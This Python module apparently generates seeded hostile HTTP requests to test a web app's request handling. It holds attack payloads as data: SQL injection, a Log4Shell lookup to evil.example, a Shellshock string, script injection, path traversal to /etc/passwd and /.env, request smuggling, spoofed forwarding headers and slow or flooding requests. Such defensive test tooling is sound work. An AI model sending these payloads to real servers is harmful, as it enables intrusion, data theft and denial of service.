"""Hostile requests, as bytes on a connection: each kind is one that public pages meet, drawn by a seed."""

import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from urllib.parse import quote, quote_from_bytes

FORM = "application/x-www-form-urlencoded"
_STRINGS = (
    "' or 1=1; drop table kudos; --",
    "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}",
    "</textarea><script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "a\r\nSet-Cookie: a=b\r\n\r\n<h1>split</h1>",
    "() { :;}; /bin/id",
    "Buy now https://spam.example http://spam.example <a href='//spam.example'>win</a> " * 5,
    "<@U01BO> <!channel> @everyone <at>Ana</at> [a](https://spam.example)",
    "\x00\x1b[2J\x07\x7f",
)
_UNICODE = (
    b"\xc0\xaf\xe0\x80\xaf",  # overlong
    b"\xed\xa0\x80\xed\xb0\x80",  # surrogates
    b"\xf4\x90\x80\x80\xff\xfe",
    "\u202eevil\u2066\u200b\u2060".encode() * 20,
    ("Z" + "\u0301\u0316\u034f" * 400).encode(),
    ("\u0f77\u0f73" * 500).encode(),
    ("👨\u200d" * 300).encode(),
    "\ufdfa".encode() * 900,
    "\U000e0041\U000e0042".encode() * 50,
)
_PATHS = (
    "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "//evil.example/", "/%00", "/.env", "/wp-login.php", "/metrics",
    "/health", "/as/ana/kudos", "/slack/events", "/api/messages", "/scim/v2/1/Users", "/api/v1/kudos",
    "/@ADDRESS@/../@REPLACED@",
    "/@ADDRESS@;a=b", "/@ADDRESS@%2f", "/@ADDRESS@%00", "/./@ADDRESS@", "http://evil.example/@ADDRESS@", "*",
    "/" + "a" * 3000, "/@ADDRESS@?lang=../../x", "/@ADDRESS@?lang=ja&lang=%0d%0aX: y", "/@ADDRESS@?" + "a=b&" * 400,
    "evil.example:443",
)  # fmt: skip
_METHODS = ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "OPTIONS", "PROPFIND", "get", "POST ", "G" * 300)
_HEADS = (
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-encoding: x\r\n\r\n5\r\nwords\r\n",
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nwords",
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nContent-Length: +5\r\n\r\nwords",
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\nwords",
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nContent-Length : 5\r\n\r\nwords",
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999999\r\n\r\nwords",
    "POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n",
    f"POST /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;{'a=b;' * 3000}\r\na\r\n",
    "GET /@ADDRESS@ HTTP/1.1\nHost: a\n\n",
    "GET /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "GET /@ADDRESS@ HTTP/1.1\r\n Folded: a\r\nHost: a\r\n\r\n",
    "GET /@ADDRESS@ HTTP/1.1\r\nX: \x00\r\nHost: a\r\n\r\n",
    "GET /@ADDRESS@ HTTP/9.9\r\nHost: a\r\n\r\n",
    "GET /@ADDRESS@\r\n\r\n",
    "GET /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\n\r\n",
    "GET /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nConnection: Upgrade\r\n\r\n",
    "GET /@ADDRESS@ HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 9\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "\r\n" * 500,
)
_SPOOFED = (
    "X-Forwarded-For: 127.0.0.1", "X-Forwarded-For: , ,;, x", f"X-Forwarded-For: {'1.1.1.1, ' * 500}",
    "Forwarded: for=127.0.0.1;host=evil.example", "X-Real-IP: 127.0.0.1", "X-Forwarded-Host: evil.example",
    "X-Original-URL: /metrics", "X-Rewrite-URL: /health", "X-HTTP-Method-Override: DELETE", "Host: evil.example",
    "Host: 127.0.0.1:8080", "Host:", "Range: bytes=0-1,0-2,0-3", "Cookie: " + "a=b; " * 1500,
    "Accept-Language: " + "ja;q=0.1," * 900, "Content-Encoding: gzip", "Accept: " + "x" * 9000,
)  # fmt: skip

_TYPES = ("", "text/plain", "application/json", f"multipart/form-data; boundary={'b' * 500}")


@dataclass(frozen=True, slots=True)
class Attack:
    """Whoever sends it then waits for as long as they are let."""

    kind: str
    raw: bytes


@dataclass(frozen=True, slots=True)
class Target:
    """Where it is sent: an address, one that is unknown by now, and a form that was shown at the first."""

    address: str
    replaced: str
    form: str


def attacks(seed: int, target: Target, count: int) -> Iterator[Attack]:
    """Yields so many."""
    draw = random.Random(seed)
    kinds = [*_WRITTEN.items(), *_SHAPES.items()]
    for number in range(count):
        kind, raw = kinds[number % len(kinds)]
        aimed = raw(draw, target.form).replace(b"@ADDRESS@", target.address.encode())
        yield Attack(kind, aimed.replace(b"@REPLACED@", target.replaced.encode()))


def anyone(draw: random.Random) -> str:
    if draw.random() < 0.5:
        return f"2001:db8:{draw.randrange(65536):x}:{draw.randrange(65536):x}::{draw.randrange(65536):x}"
    return f"198.{draw.randrange(18, 20)}.{draw.randrange(256)}.{draw.randrange(256)}"


def get(path: str, *headers: str, method: str = "GET") -> bytes:
    lines = (f"{method} {path} HTTP/1.1", "Host: thanks.example", *headers, "", "")
    return "\r\n".join(lines).encode()


def post(
    words: str, form: str, *, name: str = "", address: str = "@ADDRESS@", caller: str = "203.0.113.9", kind: str = FORM
) -> bytes:
    body = f"form={quote(form)}&words={words}&name={name}"
    head = get(
        f"/{address}",
        f"X-Forwarded-For: {caller}",
        f"Content-Type: {kind}",
        f"Content-Length: {len(body)}",
        method="POST",
    )
    return head + body.encode()


_Raw = Callable[[random.Random, str], bytes]
_WRITTEN: Mapping[str, _Raw] = {
    "injection": lambda draw, form: post(quote(draw.choice(_STRINGS)), form, caller=anyone(draw)),
    "injected name": lambda draw, form: post("a", form, name=quote(draw.choice(_STRINGS)), caller=anyone(draw)),
    "unicode": lambda draw, form: post(quote_from_bytes(draw.choice(_UNICODE)), form, caller=anyone(draw)),
    "spam": lambda draw, _: post(quote(_STRINGS[6]), draw.randbytes(24).hex(), caller=anyone(draw)),
    "replaced": lambda draw, form: post("hello", form, address="@REPLACED@", caller=anyone(draw)),
    "type": lambda draw, form: post("hello", form, kind=draw.choice(_TYPES), caller=anyone(draw)),
    "huge": lambda draw, form: post("a" * draw.choice((5_001, 70_000, 400_000)), form, caller=anyone(draw)),
    "fields": lambda draw, form: post("a&" + "b=c&" * draw.choice((11, 5_000)), form, caller=anyone(draw)),
    "hidden second": lambda draw, form: post("a", "x", caller=anyone(draw)) + post("smuggled", form),
    "slow body": lambda draw, form: post("a" * 500, form, caller=anyone(draw))[:-100],
}
_SHAPES: Mapping[str, _Raw] = {
    "flood of one": lambda _, __: get("/@ADDRESS@", "X-Forwarded-For: 203.0.113.9"),
    "flood of many": lambda draw, _: get("/@ADDRESS@", f"X-Forwarded-For: {anyone(draw)}"),
    "guess": lambda draw, _: get(f"/{draw.randbytes(22).hex()}", f"X-Forwarded-For: {anyone(draw)}"),
    "path": lambda draw, _: get(draw.choice(_PATHS), f"X-Forwarded-For: {anyone(draw)}"),
    "method": lambda draw, _: get("/@ADDRESS@", f"X-Forwarded-For: {anyone(draw)}", method=draw.choice(_METHODS)),
    "shape": lambda draw, _: draw.choice(_HEADS).encode("latin-1"),
    "spoofed": lambda draw, _: get("/@ADDRESS@", draw.choice(_SPOOFED), draw.choice(_SPOOFED)),
    "headers": lambda draw, _: get("/@ADDRESS@", *(f"X-{number}: a" for number in range(draw.choice((70, 3_000))))),
    "pipelined": lambda draw, form: get("/@ADDRESS@", f"X-Forwarded-For: {anyone(draw)}") * 40 + post("smuggled", form),
    "noise": lambda draw, _: draw.randbytes(draw.randrange(1, 2_000)),
    "slow head": lambda _, __: get("/@ADDRESS@")[:-3],
}
